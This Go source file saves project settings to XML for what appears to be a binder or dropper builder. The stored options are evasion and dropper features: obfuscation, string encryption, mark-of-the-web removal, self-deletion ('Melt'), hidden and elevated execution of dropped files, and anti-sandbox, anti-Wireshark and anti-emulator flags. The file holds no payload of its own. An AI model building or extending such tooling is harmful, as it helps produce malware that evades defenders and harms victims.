package document

import (
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"io"
	"path/filepath"
	"strconv"

	"github.com/specialistvlad/peunion/internal/ctxlog"
	"github.com/specialistvlad/peunion/internal/fsutil"
	"github.com/specialistvlad/peunion/internal/project"
)

// Save writes p to path atomically, then records path as the project's save
// location and marks it clean. On error the project is left untouched.
func Save(ctx context.Context, p *project.Project, path string) error {
	logger := ctxlog.FromContext(ctx)

	abs, err := filepath.Abs(path)
	if err != nil {
		return fmt.Errorf("resolve project path %q: %w", path, err)
	}
	dir := filepath.Dir(abs)

	var buf bytes.Buffer
	if err := Encode(&buf, p, dir); err != nil {
		return err
	}
	if err := fsutil.WriteFileAtomic(dir, filepath.Base(abs), buf.Bytes()); err != nil {
		return fmt.Errorf("save project: %w", err)
	}

	p.SetSaveLocation(abs)
	p.MarkClean()
	logger.Debug("Project saved.", "path", abs, "items", p.Len())
	return nil
}

// Encode writes p as an indented document. Paths are made relative to dir.
func Encode(w io.Writer, p *project.Project, dir string) error {
	doc, err := toXML(p, dir)
	if err != nil {
		return err
	}
	out, err := xml.MarshalIndent(doc, "", "  ")
	if err != nil {
		return fmt.Errorf("encode project: %w", err)
	}
	if _, err := io.WriteString(w, xml.Header); err != nil {
		return err
	}
	if _, err := w.Write(out); err != nil {
		return err
	}
	_, err = io.WriteString(w, "\n")
	return err
}

func bit(v bool) string {
	if v {
		return "1"
	}
	return "0"
}

func num[T ~int](v T) string { return strconv.Itoa(int(v)) }

func toXML(p *project.Project, dir string) (*xmlProject, error) {
	doc := &xmlProject{
		XMLName: xml.Name{Local: rootElement},
		Build: &xmlBuild{
			OutputBinary: &xmlOutputBinary{
				Assembly: attrs(
					"Platform", num(p.Platform()),
					"Manifest", num(p.Manifest()),
				),
				Icon: attrs("Path", relativize(p.IconPath(), dir)),
				AssemblyInfo: attrs(
					"Title", p.AssemblyTitle(),
					"Product", p.AssemblyProduct(),
					"Copyright", p.AssemblyCopyright(),
					"Version", p.AssemblyVersion(),
				),
			},
			CodeGeneration: attrs(
				"Obfuscation", num(p.Obfuscation()),
				"StringEncryption", bit(p.StringEncryption()),
				"StringLiteralEncryption", bit(p.StringLiteralEncryption()),
			),
			Startup: attrs(
				"DeleteZoneID", bit(p.DeleteZoneID()),
				"Melt", bit(p.Melt()),
			),
		},
		Items: &xmlItems{Entries: []xmlItem{}},
	}

	for _, it := range p.Items() {
		var el xmlItem
		switch v := it.(type) {
		case *project.FileItem:
			el = dropElement(tagFile, v, attrs(
				"Compress", bit(v.Compress()),
				"Encrypt", bit(v.Encrypt()),
				"Hidden", bit(v.Hidden()),
			))
			el.Attrs = attrs("Path", relativize(v.SourcePath(), dir)).Attrs
		case *project.UrlItem:
			el = dropElement(tagUrl, v, attrs("Hidden", bit(v.Hidden())))
			el.Attrs = attrs("Url", v.URL()).Attrs
		case *project.MessageBoxItem:
			el = xmlItem{
				XMLName: xml.Name{Local: tagMessageBox},
				Attrs: attrs(
					"Title", v.Title(),
					"Text", v.Text(),
					"Buttons", num(v.Buttons()),
					"Icon", num(v.Icon()),
				).Attrs,
			}
		default:
			return nil, fmt.Errorf("encode project: unsupported item type %T", it)
		}
		doc.Items.Entries = append(doc.Items.Entries, el)
	}
	return doc, nil
}

func dropElement(tag string, d project.Droppable, modification *xmlAttrs) xmlItem {
	return xmlItem{
		XMLName:      xml.Name{Local: tag},
		Modification: modification,
		Dropping: attrs(
			"Name", d.Name(),
			"DropLocation", num(d.DropLocation()),
		),
		Execution: attrs(
			"DropAction", num(d.DropAction()),
			"Runas", bit(d.RunAsElevated()),
			"CommandLine", d.CommandLine(),
		),
		Antis: attrs(
			"Sandboxie", bit(d.AntiSandbox()),
			"Wireshark", bit(d.AntiNetworkMonitor()),
			"ProcessMonitor", bit(d.AntiProcessMonitor()),
			"Emulator", bit(d.AntiEmulator()),
		),
	}
}
